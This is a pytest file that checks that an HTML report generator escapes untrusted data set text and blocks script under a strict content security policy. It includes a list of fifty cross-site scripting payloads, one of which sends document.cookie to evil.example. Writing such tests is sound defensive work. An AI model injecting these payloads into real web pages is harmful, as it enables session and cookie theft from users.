"""No text of seeds, answers, labels or settings can run, or fetch anything, in a page."""

from __future__ import annotations

import itertools
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from forged_evaluation import forge_evaluation
from page_reader import PageReader

from data_gen.llm.chat import Spent
from data_gen.page import SCRIPT_HASH, Html, bar, element, facts, folded, page, searchable, table
from data_gen.records import Record, Turn
from data_gen.report import write_report
from data_gen.shards import write_dataset
from wizard_jax.report import comparison

_CALLS = ("alert(1)", "fetch('https://evil.example/?'+document.cookie)")
FORMS = (
    "<script>{}</script>",
    "</pre><script>{}</script>",
    "</td></tr></table><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</svg><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<SCRIPT SRC=https://evil.example/x.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "' onmouseover='{}' x='",
    '" onfocus="{}" autofocus x="',
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<style>@import 'https://evil.example/{}';</style>",
    "<link rel=stylesheet href='https://evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='https://evil.example/{}'>",
    "<form action='https://evil.example/{}'><button>x",
    "&lt;script&gt;{}&lt;/script&gt;<script>{0}</script>",
    "<details open ontoggle={}>",
)
HOSTILE = tuple(form.replace("{0}", "{}").replace("{}", call) for form, call in itertools.product(FORMS, _CALLS))


COLUMNS = ("operation", "rule", "evidence", "instruction", "answer", "source")


def check(target: Path, *, shown: tuple[str, ...], scripts: int) -> PageReader:
    read = PageReader(target)
    assert not read.dangers
    assert read.policy.startswith("default-src 'none'; ")
    assert ("script-src" in read.policy) == bool(scripts)
    assert len(read.scripts) == scripts
    for text in shown:
        assert text in read.text
    return read


def hostile_data_set(folder: Path, texts: tuple[str, ...]) -> Path:
    """The page of a data set in which every text of every record and row is one of these."""
    turn = itertools.cycle(texts)
    records = [
        Record(
            id=f"{number // 2:06d}/{number % 2}",
            lineage=f"{number // 2:06d}",
            turns=(Turn("user", text), Turn("assistant", next(turn))),
            parent=f"{number // 2:06d}/0" if number % 2 else "",
            round=number % 2,
            operation=next(turn) if number % 2 else "",
            source=next(turn),
            model=next(turn),
            evolver=next(turn),
            flags=(next(turn), next(turn)),
        )
        for number, text in enumerate(texts)
    ]
    size = {"count": len(records), "records_per_shard": 9}
    write_dataset(records, folder / "dataset", name="bad", description=texts[0], **size)
    rows = [{**{name: next(turn) for name in COLUMNS}, "lineage": text, "round": 1} for text in texts]
    (folder / "rejected.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    words = itertools.cycle(texts)
    measured = {
        next(words): {next(words): next(words), "rounds": [{"round": n, next(words): 0.5} for n in (0, 1)]},
        "both": {"rounds": [{"round": n, texts[0]: [0.5, 0.4, 0.6, 9]} for n in (0, 1)]},
        next(words): next(words),
    }
    return write_report(
        folder,
        summary={next(words): next(words), "list": [next(words)], "map": {next(words): 1}},
        spent={(0, next(words)): Spent(1, 2, 3, 0.5)},
        costs=lambda lineage: {0: Spent(1, 2, 3, 0.5)},  # noqa: ARG005
        measures=measured,
        lineages_shown=1000,
    )


def test_there_are_fifty_of_them_and_the_reader_sees_each(tmp_path: Path) -> None:
    assert len(set(HOSTILE)) == 50
    for text in HOSTILE:
        raw = tmp_path / "raw.html"
        raw.write_text(f"<p title=\"{text}\">{text}</p><p title='{text}'></p>")
        assert PageReader(raw).dangers, text


@pytest.mark.parametrize("text", ["<b>", "a & b", "\"quoted\" and 'quoted'", "&amp;"])
def test_text_is_escaped_wherever_it_is_put(text: str, tmp_path: Path) -> None:
    target = tmp_path / "page.html"
    item = element("div", element("p", text, css="part", data={"source": text}), css="item")
    parts = (
        element("p", text),
        table((text,), [(text,)]),
        element("pre", element("b", text), css=text),
        facts({text: text}),
        folded(text, text),
        searchable([item], filters={"source": [text]}),
    )
    target.write_text(page(text, text, *parts))
    read = PageReader(target)
    assert read.text.count(text) == 13
    assert not read.dangers


def test_a_bar_never_leaves_its_cell() -> None:
    for share in (-1.0, 0.0, 0.5, 1.0, 7.0):
        width = float(bar(share).markup.split("width:")[1].split("rem")[0])
        assert 0 <= width <= 10


def test_only_a_page_that_can_be_searched_admits_a_script_and_only_the_one_that_it_carries(tmp_path: Path) -> None:
    plain, found = tmp_path / "plain.html", tmp_path / "found.html"
    plain.write_text(page("a", '<div class="searchable">'))
    check(plain, shown=('<div class="searchable">',), scripts=0)
    found.write_text(page("a", searchable([], filters={})))
    check(found, shown=(), scripts=1)
    found.write_text(found.read_text().replace('"use strict"', '"use strict" '))
    assert any("does not admit" in danger for danger in PageReader(found).dangers)


def test_hostile_seeds_replies_and_settings_are_only_text_in_the_report_of_a_data_set(tmp_path: Path) -> None:
    check(hostile_data_set(tmp_path, HOSTILE), shown=HOSTILE, scripts=1)


def test_hostile_labels_and_answers_are_only_text_in_a_comparison(tmp_path: Path) -> None:
    answers = itertools.cycle(HOSTILE)
    folders = [
        forge_evaluation(tmp_path / f"eval{number}", answer=lambda _: next(answers), label=label, model=label)
        for number, label in enumerate((*HOSTILE[:12], *HOSTILE[24:30]))
    ]
    comparison.write_report(folders, tmp_path / "report.html")
    check(tmp_path / "report.html", shown=(*HOSTILE[:12], *HOSTILE[24:30]), scripts=0)


# --- in a browser

CHROMIUM = shutil.which("chromium")
LEAVES_A_MARK = "document.documentElement.setAttribute(`data-ran`,1)"


def in_browser(target: Path, *, profile: Path, width: int = 800) -> str:
    """What a browser has made of a page after two seconds of its own time."""
    assert CHROMIUM
    switches = "headless no-sandbox disable-gpu disable-quic no-first-run disable-background-networking"
    switches += " disable-component-update disable-sync dump-dom virtual-time-budget=2000"
    switches += f" window-size={width},1000"
    command = [CHROMIUM, *(f"--{switch}" for switch in switches.split()), f"--user-data-dir={profile}"]
    done = subprocess.run([*command, target.as_uri()], check=True, capture_output=True, text=True, timeout=120)
    return done.stdout


def ran(dom: str) -> bool:
    return " data-ran" in dom[dom.index("<html") :].split(">", 1)[0]


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here")
def test_no_payload_runs_in_a_browser_and_the_search_does(tmp_path: Path) -> None:
    texts = tuple(form.replace("{0}", "{}").replace("{}", LEAVES_A_MARK) for form in FORMS)
    target, profile = hostile_data_set(tmp_path, texts), tmp_path / "profile"
    dom = in_browser(target, profile=profile)
    lineages = len(texts) // 2 + 1 + len(texts)
    assert f"<output>{lineages} of {lineages}</output>" in dom
    assert not ran(dom)
    # The payloads do run where nothing stops them; and where they are not escaped, the policy alone stops them.
    raw = tmp_path / "raw.html"
    raw.write_text("<html><body>" + "".join(f"<p>{text}</p>" for text in texts[:2] + texts[9:10] + texts[13:14]))
    assert ran(in_browser(raw, profile=profile))
    text = target.read_text(encoding="utf-8")
    target.write_text(text.replace("<h2>", f"<h2>{texts[0]}{texts[9]}{texts[13]}"))
    dom = in_browser(target, profile=profile)
    assert not ran(dom)
    assert f"<output>{lineages} of {lineages}</output>" in dom


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here")
def test_search_and_filters_show_what_fits(tmp_path: Path) -> None:
    def item(text: str, **data: str) -> Html:
        return element("div", element("p", text, css="part", data=data), element("p", "more", css="part"), css="item")

    items = [item("Sort apples", verdict="kept"), item("Sort pears", verdict="refusal"), item("Count", verdict="kept")]
    text = page("found", searchable(items, filters={"verdict": ["kept", "refusal"]}))
    for query, choice, expected in (
        ("", "", ["Sort apples", "Sort pears", "Count"]),
        ("SORT", "", ["Sort apples", "Sort pears"]),
        ("pears sort", "", ["Sort pears"]),
        ("", "kept", ["Sort apples", "Count"]),
        ("sort", "kept", ["Sort apples"]),
        ("sort", "refusal", ["Sort pears"]),
        ("nothing", "", []),
    ):
        typed = (
            f"document.querySelector('input').value = '{query}'; document.querySelector('select').value = '{choice}';"
            "document.querySelector('.filters').dispatchEvent(new Event('input'));"
        )
        target = tmp_path / "page.html"
        admitted = text.replace("script-src", "script-src 'unsafe-hashes'").replace(
            f"'{SCRIPT_HASH}'", "'unsafe-inline'"
        )
        target.write_text(admitted.replace("</body>", f"<script>{typed}</script></body>"))
        dom = in_browser(target, profile=tmp_path / "profile")
        assert f"<output>{len(expected)} of 3</output>" in dom
        shown = re.findall(r'<div class="item"><p[^>]*>([^<]*)', dom)
        assert shown == expected


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here")
@pytest.mark.parametrize("width", [500, 1200])
def test_no_page_is_wider_than_its_window(width: int, tmp_path: Path) -> None:
    tags = element("p", *(element("span", f"answered by some-long-model-{n}", css="tag") for n in range(30)))
    rows = [("a rule", "what it means, " * 5, *(f"{n} [{n}, {n}]" for n in range(20)))]
    text = page("wide", tags, table([f"column {n}" for n in range(22)], rows), element("pre", "x" * 4000))
    told = "document.title = document.documentElement.scrollWidth - document.documentElement.clientWidth"
    text = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    target = tmp_path / "page.html"
    target.write_text(text.replace("</body>", f"<script>{told}</script></body>"), encoding="utf-8")
    assert "<title>0</title>" in in_browser(target, profile=tmp_path / "profile", width=width)
